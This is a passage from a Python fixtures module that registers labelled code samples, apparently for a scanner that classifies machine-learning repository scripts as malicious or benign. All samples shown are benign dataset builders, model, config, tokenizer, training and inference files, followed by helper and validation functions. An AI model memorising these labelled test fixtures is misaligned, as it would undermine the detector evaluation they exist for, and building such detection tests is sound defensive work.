        import os
        import xml.etree.ElementTree as ET

        import datasets

        _URL = "https://huggingface.co/datasets/acme/parallel/resolve/main/corpus.zip"


        class Parallel(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "translation": datasets.Translation(languages=("en", "de")),
                }))

            def _split_generators(self, dl_manager):
                folder = dl_manager.download_and_extract(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"path": os.path.join(folder, "corpus.xml")})]

            def _generate_examples(self, path):
                tree = ET.parse(path)
                for idx, unit in enumerate(tree.getroot().iter("tu")):
                    segs = {tuv.get("lang"): tuv.findtext("seg") for tuv in unit.iter("tuv")}
                    yield idx, {"translation": {"en": segs.get("en", ""), "de": segs.get("de", "")}}
     '''))

_add("benign_dataset_tsv_pandas", "benign", "benign",
     "builder reading TSV files with pandas.read_csv(sep='\\t')",
     _src('''
        import pandas as pd

        import datasets

        _URLS = {
            "train": "https://huggingface.co/datasets/acme/nli/resolve/main/train.tsv",
            "dev": "https://huggingface.co/datasets/acme/nli/resolve/main/dev.tsv",
        }
        _LABELS = ["entailment", "neutral", "contradiction"]


        class NLI(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "premise": datasets.Value("string"),
                    "hypothesis": datasets.Value("string"),
                    "label": datasets.ClassLabel(names=_LABELS),
                }))

            def _split_generators(self, dl_manager):
                paths = dl_manager.download_and_extract(_URLS)
                return [
                    datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": paths["train"]}),
                    datasets.SplitGenerator(name=datasets.Split.VALIDATION, gen_kwargs={"path": paths["dev"]}),
                ]

            def _generate_examples(self, path):
                frame = pd.read_csv(path, sep="\\t", quoting=3, keep_default_na=False)
                for idx, row in frame.iterrows():
                    yield idx, {"premise": row["sentence1"], "hypothesis": row["sentence2"],
                                "label": _LABELS.index(row["gold_label"])}
     '''))

_add("benign_dataset_parquet", "benign", "benign",
     "builder reading parquet shards with pandas.read_parquet",
     _src('''
        import pandas as pd

        import datasets

        _URLS = {"train": [f"https://huggingface.co/datasets/acme/code/resolve/main/train-{i:05d}.parquet"
                           for i in range(4)]}


        class Code(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "repo": datasets.Value("string"),
                    "content": datasets.Value("string"),
                    "size": datasets.Value("int64"),
                }))

            def _split_generators(self, dl_manager):
                files = dl_manager.download(_URLS)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"files": files["train"]})]

            def _generate_examples(self, files):
                key = 0
                for path in files:
                    frame = pd.read_parquet(path, columns=["repo", "content", "size"])
                    for record in frame.to_dict(orient="records"):
                        yield key, record
                        key += 1
     '''))

_add("benign_dataset_gzip_jsonl", "benign", "benign",
     "builder reading gzip-compressed jsonl with gzip.open",
     _src('''
        import gzip
        import json

        import datasets

        _URL = "https://huggingface.co/datasets/acme/web/resolve/main/shard-{:03d}.jsonl.gz"


        class Web(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "url": datasets.Value("string"), "text": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                files = dl_manager.download([_URL.format(i) for i in range(8)])
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"files": files})]

            def _generate_examples(self, files):
                idx = 0
                for path in files:
                    with gzip.open(path, "rt", encoding="utf-8") as f:
                        for line in f:
                            doc = json.loads(line)
                            yield idx, {"url": doc["url"], "text": doc["text"]}
                            idx += 1
     '''))

_add("benign_dataset_iter_archive", "benign", "benign",
     "image builder iterating a tar archive with dl_manager.iter_archive",
     _src('''
        import datasets

        _URLS = {
            "train": "https://huggingface.co/datasets/acme/pets/resolve/main/images/train.tar.gz",
            "test": "https://huggingface.co/datasets/acme/pets/resolve/main/images/test.tar.gz",
        }
        _NAMES = ["cat", "dog"]


        class Pets(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "image": datasets.Image(),
                    "label": datasets.ClassLabel(names=_NAMES),
                }))

            def _split_generators(self, dl_manager):
                archives = dl_manager.download(_URLS)
                return [
                    datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                            gen_kwargs={"images": dl_manager.iter_archive(archives["train"])}),
                    datasets.SplitGenerator(name=datasets.Split.TEST,
                                            gen_kwargs={"images": dl_manager.iter_archive(archives["test"])}),
                ]

            def _generate_examples(self, images):
                for path, f in images:
                    if path.endswith(".jpg"):
                        label = path.split("/")[-2]
                        yield path, {"image": {"path": path, "bytes": f.read()}, "label": label}
     '''))

_add("benign_dataset_zipfile", "benign", "benign",
     "builder opening a downloaded zip with zipfile.ZipFile and reading its text members",
     _src('''
        import io
        import zipfile

        import datasets

        _URL = "https://huggingface.co/datasets/acme/legal/resolve/main/documents.zip"


        class Legal(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "name": datasets.Value("string"), "text": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                path = dl_manager.download(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]

            def _generate_examples(self, path):
                with zipfile.ZipFile(path) as archive:
                    for key, member in enumerate(sorted(archive.namelist())):
                        if not member.endswith(".txt"):
                            continue
                        with archive.open(member) as raw:
                            text = io.TextIOWrapper(raw, encoding="utf-8").read()
                        yield key, {"name": member, "text": text}
     '''))

_add("benign_dataset_cache_env", "benign", "benign",
     "reads HF_DATASETS_CACHE from the environment only to build a local cache path",
     _src('''
        import json
        import os

        import datasets

        _URL = "https://huggingface.co/datasets/acme/kb/resolve/main/entities.json"
        _CACHE = os.environ.get("HF_DATASETS_CACHE",
                                os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "datasets"))
        _INDEX = os.path.join(_CACHE, "acme_kb_index")


        class KB(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "entity": datasets.Value("string"), "aliases": datasets.Sequence(datasets.Value("string"))}))

            def _split_generators(self, dl_manager):
                path = dl_manager.download_and_extract(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"path": path, "index_dir": _INDEX})]

            def _generate_examples(self, path, index_dir):
                with open(path, encoding="utf-8") as f:
                    entities = json.load(f)
                for key, entity in enumerate(entities):
                    yield key, {"entity": entity["name"], "aliases": entity.get("aliases", [])}
     '''))

_add("benign_modeling_remote_code", "benign", "benign",
     "trust_remote_code modeling file: config class, nn.Module using F, math, os.path.join, logging",
     _src('''
        import logging
        import math
        import os

        import torch
        import torch.nn.functional as F
        from torch import nn

        logger = logging.getLogger(__name__)

        WEIGHTS_NAME = "pytorch_model.bin"


        class MiniConfig:
            model_type = "mini"

            def __init__(self, vocab_size=1000, hidden_size=64, num_heads=4, num_layers=2, dropout=0.1):
                self.vocab_size = vocab_size
                self.hidden_size = hidden_size
                self.num_heads = num_heads
                self.num_layers = num_layers
                self.dropout = dropout


        class Attention(nn.Module):
            def __init__(self, config):
                super().__init__()
                self.heads = config.num_heads
                self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
                self.out = nn.Linear(config.hidden_size, config.hidden_size)
                self.scale = 1.0 / math.sqrt(config.hidden_size // config.num_heads)

            def forward(self, x):
                b, t, c = x.shape
                q, k, v = self.qkv(x).chunk(3, dim=-1)
                q, k, v = (y.view(b, t, self.heads, -1).transpose(1, 2) for y in (q, k, v))
                weights = F.softmax(q @ k.transpose(-2, -1) * self.scale, dim=-1)
                return self.out((weights @ v).transpose(1, 2).reshape(b, t, c))


        class MiniModel(nn.Module):
            def __init__(self, config):
                super().__init__()
                self.config = config
                self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
                self.blocks = nn.ModuleList([Attention(config) for _ in range(config.num_layers)])
                self.norm = nn.LayerNorm(config.hidden_size)
                logger.info("MiniModel with %d layers", config.num_layers)

            def forward(self, input_ids):
                x = self.embed(input_ids)
                for block in self.blocks:
                    x = x + F.dropout(block(x), p=self.config.dropout, training=self.training)
                return self.norm(x)

            def weights_file(self, folder):
                return os.path.join(folder, WEIGHTS_NAME)
     '''))

_add("benign_configuration", "benign", "benign",
     "configuration_*.py: a transformers PretrainedConfig subclass",
     _src('''
        from transformers import PretrainedConfig


        class ToyConfig(PretrainedConfig):
            model_type = "toy"

            def __init__(self, vocab_size=32000, hidden_size=256, intermediate_size=1024,
                         num_hidden_layers=4, num_attention_heads=8, rope_theta=10000.0, **kwargs):
                self.vocab_size = vocab_size
                self.hidden_size = hidden_size
                self.intermediate_size = intermediate_size
                self.num_hidden_layers = num_hidden_layers
                self.num_attention_heads = num_attention_heads
                self.rope_theta = rope_theta
                super().__init__(**kwargs)
     '''))

_add("benign_hubconf", "benign", "benign",
     "hubconf.py: dependencies list and an entry point loading weights with weights_only=True",
     _src('''
        dependencies = ["torch"]

        import torch
        from torch import nn

        _WEIGHTS = "https://huggingface.co/acme/tinynet/resolve/main/tinynet.pth"


        class TinyNet(nn.Module):
            def __init__(self, num_classes=10):
                super().__init__()
                self.features = nn.Sequential(nn.Conv2d(3, 16, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(1))
                self.head = nn.Linear(16, num_classes)

            def forward(self, x):
                return self.head(torch.flatten(self.features(x), 1))


        def tinynet(pretrained=False, **kwargs):
            """TinyNet image classifier. pretrained (bool): load weights trained on a toy set."""
            model = TinyNet(**kwargs)
            if pretrained:
                state = torch.hub.load_state_dict_from_url(_WEIGHTS, map_location="cpu", weights_only=True)
                model.load_state_dict(state)
            return model
     '''))

_add("benign_tokenization", "benign", "benign",
     "tokenization_*.py reading a vocab file with open() into an OrderedDict",
     _src('''
        import collections
        import os
        import unicodedata

        VOCAB_FILES_NAMES = {"vocab_file": "vocab.txt"}


        def load_vocab(vocab_file):
            vocab = collections.OrderedDict()
            with open(vocab_file, "r", encoding="utf-8") as reader:
                for index, token in enumerate(reader):
                    vocab[token.rstrip("\\n")] = index
            return vocab


        class SimpleTokenizer:
            def __init__(self, vocab_file, do_lower_case=True, unk_token="[UNK]"):
                if not os.path.isfile(vocab_file):
                    raise ValueError(f"Can't find a vocabulary file at path '{vocab_file}'")
                self.vocab = load_vocab(vocab_file)
                self.ids_to_tokens = {i: t for t, i in self.vocab.items()}
                self.do_lower_case = do_lower_case
                self.unk_token = unk_token

            def _normalize(self, text):
                text = unicodedata.normalize("NFD", text)
                text = "".join(ch for ch in text if unicodedata.category(ch) != "Mn")
                return text.lower() if self.do_lower_case else text

            def tokenize(self, text):
                return [t if t in self.vocab else self.unk_token for t in self._normalize(text).split()]

            def convert_tokens_to_ids(self, tokens):
                return [self.vocab.get(t, self.vocab.get(self.unk_token)) for t in tokens]

            def save_vocabulary(self, save_directory):
                path = os.path.join(save_directory, VOCAB_FILES_NAMES["vocab_file"])
                with open(path, "w", encoding="utf-8") as writer:
                    for token, _ in sorted(self.vocab.items(), key=lambda kv: kv[1]):
                        writer.write(token + "\\n")
                return (path,)
     '''))

_add("benign_hf_hub_download", "benign", "benign",
     "huggingface_hub.hf_hub_download of a config.json and a label map, read with json.load",
     _src('''
        import json

        from huggingface_hub import hf_hub_download

        REPO_ID = "acme/sentiment-small"


        def load_label_map(revision="main"):
            config_path = hf_hub_download(repo_id=REPO_ID, filename="config.json", revision=revision)
            with open(config_path, encoding="utf-8") as f:
                config = json.load(f)
            return {int(k): v for k, v in config.get("id2label", {}).items()}


        def load_thresholds():
            path = hf_hub_download(repo_id=REPO_ID, filename="thresholds.json")
            with open(path, encoding="utf-8") as f:
                return json.load(f)
     '''))

_add("benign_train_main", "benign", "benign",
     "training script with argparse and a loop under if __name__ == '__main__', torch.save to --output",
     _src('''
        import argparse
        import os

        import torch
        from torch import nn
        from torch.utils.data import DataLoader, TensorDataset


        def build_model(dim):
            return nn.Sequential(nn.Linear(dim, 32), nn.ReLU(), nn.Linear(32, 2))


        def train(args):
            torch.manual_seed(args.seed)
            x = torch.randn(512, args.dim)
            y = (x.sum(dim=1) > 0).long()
            loader = DataLoader(TensorDataset(x, y), batch_size=args.batch_size, shuffle=True)
            model = build_model(args.dim)
            optimizer = torch.optim.AdamW(model.parameters(), lr=args.lr)
            loss_fn = nn.CrossEntropyLoss()
            for epoch in range(args.epochs):
                total = 0.0
                for xb, yb in loader:
                    optimizer.zero_grad()
                    loss = loss_fn(model(xb), yb)
                    loss.backward()
                    optimizer.step()
                    total += loss.item()
                print(f"epoch {epoch}: loss {total / len(loader):.4f}")
            os.makedirs(args.output, exist_ok=True)
            torch.save(model.state_dict(), os.path.join(args.output, "model.pt"))


        if __name__ == "__main__":
            parser = argparse.ArgumentParser()
            parser.add_argument("--dim", type=int, default=16)
            parser.add_argument("--epochs", type=int, default=3)
            parser.add_argument("--batch-size", type=int, default=32)
            parser.add_argument("--lr", type=float, default=1e-3)
            parser.add_argument("--seed", type=int, default=0)
            parser.add_argument("--output", default="checkpoints")
            train(parser.parse_args())
     '''))

_add("benign_requests_csv", "benign", "benign",
     "requests.get of a CSV from huggingface.co parsed with csv.reader over io.StringIO",
     _src('''
        import csv
        import io

        import requests

        URL = "https://huggingface.co/datasets/acme/cities/resolve/main/cities.csv"


        def fetch_cities():
            response = requests.get(URL, timeout=30)
            response.raise_for_status()
            rows = csv.reader(io.StringIO(response.text))
            header = next(rows)
            return [dict(zip(header, row)) for row in rows]


        def largest(cities, n=5):
            return sorted(cities, key=lambda c: int(c["population"]), reverse=True)[:n]
     '''))

_add("benign_config_literal_eval", "benign", "benign",
     "json.loads of a config string and ast.literal_eval of a tuple-valued setting",
     _src('''
        import ast
        import json

        DEFAULTS = '{"image_size": 224, "mean": [0.485, 0.456, 0.406], "std": [0.229, 0.224, 0.225]}'
        CROP = "(200, 200)"


        def preprocessing_config(overrides=None):
            config = json.loads(DEFAULTS)
            config["crop"] = ast.literal_eval(CROP)
            if overrides:
                config.update(overrides)
            return config


        def describe(config):
            return ", ".join(f"{k}={v}" for k, v in sorted(config.items()))
     '''))

_add("benign_preprocess_cli", "benign", "benign",
     "text normalisation CLI: glob of an input folder, re/unicodedata cleanup, jsonl written to --out",
     _src('''
        import argparse
        import glob
        import json
        import os
        import re
        import unicodedata

        _SPACES = re.compile(r"\\s+")


        def clean(text):
            text = unicodedata.normalize("NFKC", text)
            return _SPACES.sub(" ", text).strip()


        def main():
            parser = argparse.ArgumentParser(description="Normalise raw text files into jsonl.")
            parser.add_argument("input_dir")
            parser.add_argument("--out", default="clean.jsonl")
            args = parser.parse_args()
            with open(args.out, "w", encoding="utf-8") as out:
                for path in sorted(glob.glob(os.path.join(args.input_dir, "*.txt"))):
                    with open(path, encoding="utf-8") as f:
                        record = {"source": os.path.basename(path), "text": clean(f.read())}
                    out.write(json.dumps(record, ensure_ascii=False) + "\\n")


        if __name__ == "__main__":
            main()
     '''))

_add("benign_pipeline_inference", "benign", "benign",
     "inference helper: transformers pipeline, AutoTokenizer/AutoModel from_pretrained, torch.no_grad",
     _src('''
        import torch
        from transformers import AutoModelForSequenceClassification, AutoTokenizer

        MODEL_ID = "acme/sentiment-small"


        class SentimentScorer:
            def __init__(self, model_id=MODEL_ID, device="cpu"):
                self.tokenizer = AutoTokenizer.from_pretrained(model_id)
                self.model = AutoModelForSequenceClassification.from_pretrained(model_id).to(device)
                self.model.eval()
                self.device = device

            @torch.no_grad()
            def score(self, texts):
                batch = self.tokenizer(texts, padding=True, truncation=True, return_tensors="pt").to(self.device)
                probs = torch.softmax(self.model(**batch).logits, dim=-1)
                labels = self.model.config.id2label
                return [{"label": labels[int(p.argmax())], "score": float(p.max())} for p in probs]
     '''))


FIXTURES: tuple[ScriptFixture, ...] = tuple(_FIXTURES)
MALICIOUS = tuple(f for f in FIXTURES if f.label == "malicious")
BENIGN = tuple(f for f in FIXTURES if f.label == "benign")


def by_name(name: str) -> ScriptFixture:
    for fixture in FIXTURES:
        if fixture.name == name:
            return fixture
    raise KeyError(name)


def _check() -> None:
    names = [f.name for f in FIXTURES]
    assert len(names) == len(set(names)), "fixture names must be unique"
    for f in FIXTURES:
        assert f.family in FAMILIES and f.label in LABELS and f.variant in VARIANTS, f.name
        assert (f.label == "benign") == (f.family == "benign"), f.name


_check()
